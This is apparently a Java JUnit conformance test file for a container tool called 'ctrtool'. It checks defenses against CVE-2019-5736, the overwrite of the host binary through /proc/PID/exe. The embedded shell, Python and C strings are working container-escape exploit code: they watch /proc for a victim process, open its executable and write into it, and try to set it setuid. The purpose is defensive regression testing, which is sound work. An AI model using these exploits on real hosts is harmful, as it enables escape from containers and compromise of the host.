package org.ctrtool.conformance.security;

import static org.assertj.core.api.Assertions.assertThat;

import org.ctrtool.conformance.example.Example.Caller;
import org.ctrtool.conformance.example.Lab;
import org.junit.jupiter.api.Test;

/**
 * The host's program overwritten from inside, through /proc/PID/exe of a process that has entered
 * the container and not yet executed anything else, or has executed itself: the container's program
 * is a link to /proc/self/exe (CVE-2019-5736). A program that does lose its file that way is in
 * {@code HostBinaryTest}.
 */
class OwnProgramTest {
  /** Waits in a container of root's for a process that runs ctrtool or busybox. */
  private static final String ENTERED =
      """
      mkdir host; cp /tmp/bin/ctrtool host/ctrtool-victim; cp /usr/bin/busybox host/busybox-victim
      for name in sleep launcher; do ln -s /proc/self/exe $name; done
      cat >attack.py <<'E'
      import os, sys, time
      victim, seen, end = None, 0, time.time() + 2.5
      while time.time() < end:
          for pid in filter(str.isdigit, os.listdir("/proc")):
              try: name = os.readlink(f"/proc/{pid}/exe")
              except OSError: continue
              if victim is None and ("victim" in name or "memfd" in name):
                  seen = 1; victim = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
          try:
              if victim:
                  with open(f"/proc/self/fd/{victim}", "r+b", 0) as file: file.write(b"overwritten")
                  break
          except OSError: pass
      print("attacked" if seen else "nothing seen")
      E
      enter() {
        name=$1; shift; victim=$1
        unshare -mpf --mount-proc --kill-child /usr/bin/python3 attack.py >attacked & sleep 0.3
        container=$(cat /proc/$!/task/$!/children); container=${container% }
        eval "$@" || echo "status $?"
        wait $!; echo "$name $(cat attacked) $(head -c 11 $victim | grep -a -o overwritten)"
      }
      """;

  /** Opens process 1's program, and tries to write to it until the end of the container. */
  private static final String STARTED =
      """
      mkdir -p img/{bin,lib,usr,etc,opt,proc}; cp /tmp/bin/ctrtool ctrtool-victim
      ln -s /proc/self/exe img/bin/launcher; mount --bind img img
      cat >attack.c <<'E'
      #include <fcntl.h>
      #include <stdio.h>
      #include <string.h>
      #include <sys/stat.h>
      #include <sys/statvfs.h>
      #include <unistd.h>
      int main(int count, char **words) {
        char path[64], name[256] = "";
        int victim = open("/proc/1/exe", O_RDONLY);
        readlink("/proc/1/exe", name, sizeof name - 1);
        struct statvfs mount;
        fstatvfs(victim, &mount);
        puts(mount.f_flag & ST_RDONLY ? "read-only" : strstr(name, "memfd") ? "a copy" : "the host's");
        if (count == 1) return 0;
        sprintf(path, "/proc/self/fd/%d", victim);
        for (int i = 0; i < 3 && fork(); i++) ;
        for (alarm(2);;) { int fd = open(path, O_WRONLY); if (fd >= 0) { fchmod(fd, 04700); pause(); } }
      }
      E
      musl-gcc -O -static -o img/bin/attack attack.c
      """;

  @Test
  void aProcessThatEntersIsASealedCopy() throws Exception {
    String script =
        """
        enter busybox host/busybox-victim 'nsenter -t $container -m -p '$PWD/sleep 0.3
        in='--fork -w --nsenter2=mp//proc/$container '$PWD'/launcher -w sleep 0.3'
        enter naive host/ctrtool-victim launcher --unsafe-no-escape "$in"
        cp --remove-destination /tmp/bin/ctrtool host/ctrtool-victim
        enter escape host/ctrtool-victim launcher --escape "$in"
        enter default host/ctrtool-victim launcher "$in"
        """;

    assertThat(Lab.run(Caller.ROOT, ENTERED + script).lines())
        .containsExactly(
            "busybox attacked overwritten",
            "naive attacked overwritten",
            "escape attacked ",
            "default attacked ");
  }

  @Test
  void aProgramThatIsALinkToItselfCannotBeWrittenTo() throws Exception {
    String script =
        """
        ./ctrtool-victim launcher -mpw -t -r $PWD/img /bin/launcher -w /bin/attack
        map='--uid-map 0.0.1 --gid-map 0.0.1'
        for how in '' --init --rootless "$map"; do
          ./ctrtool-victim run --image img $how -- /bin/launcher -w /bin/attack
        done
        ./ctrtool-victim run --bind $PWD/img/bin:/srv -- /srv/launcher -w /srv/attack
        """;

    assertThat(Lab.run(Caller.ROOT, STARTED + script).lines())
        .containsExactly("a copy", "a copy", "a copy", "a copy", "a copy", "a copy");
  }

  /** It is busy as long as it runs, but when it is killed the container lives a moment longer. */
  @Test
  void nothingIsWrittenAtTheDeathOfTheStarter() throws Exception {
    String script =
        """
        deaths() {
          name=$1; shift
          for i in $(seq 60); do
            ./ctrtool-victim "$@" /bin/launcher -w /bin/attack on >/dev/null & sleep 0.06
            kill -9 $! $(cat /proc/$!/task/$!/children); wait $!; sleep 0.02
            test $(stat -c %a ctrtool-victim) = 755 || break
          done 2>/dev/null
          echo "$name $(stat -c %a ctrtool-victim)"
        }
        deaths run run --image img --
        deaths launcher launcher -mpw -t -r $PWD/img
        """;

    assertThat(Lab.run(Caller.ROOT, STARTED + script).lines())
        .containsExactly("run 755", "launcher 755");
  }
}
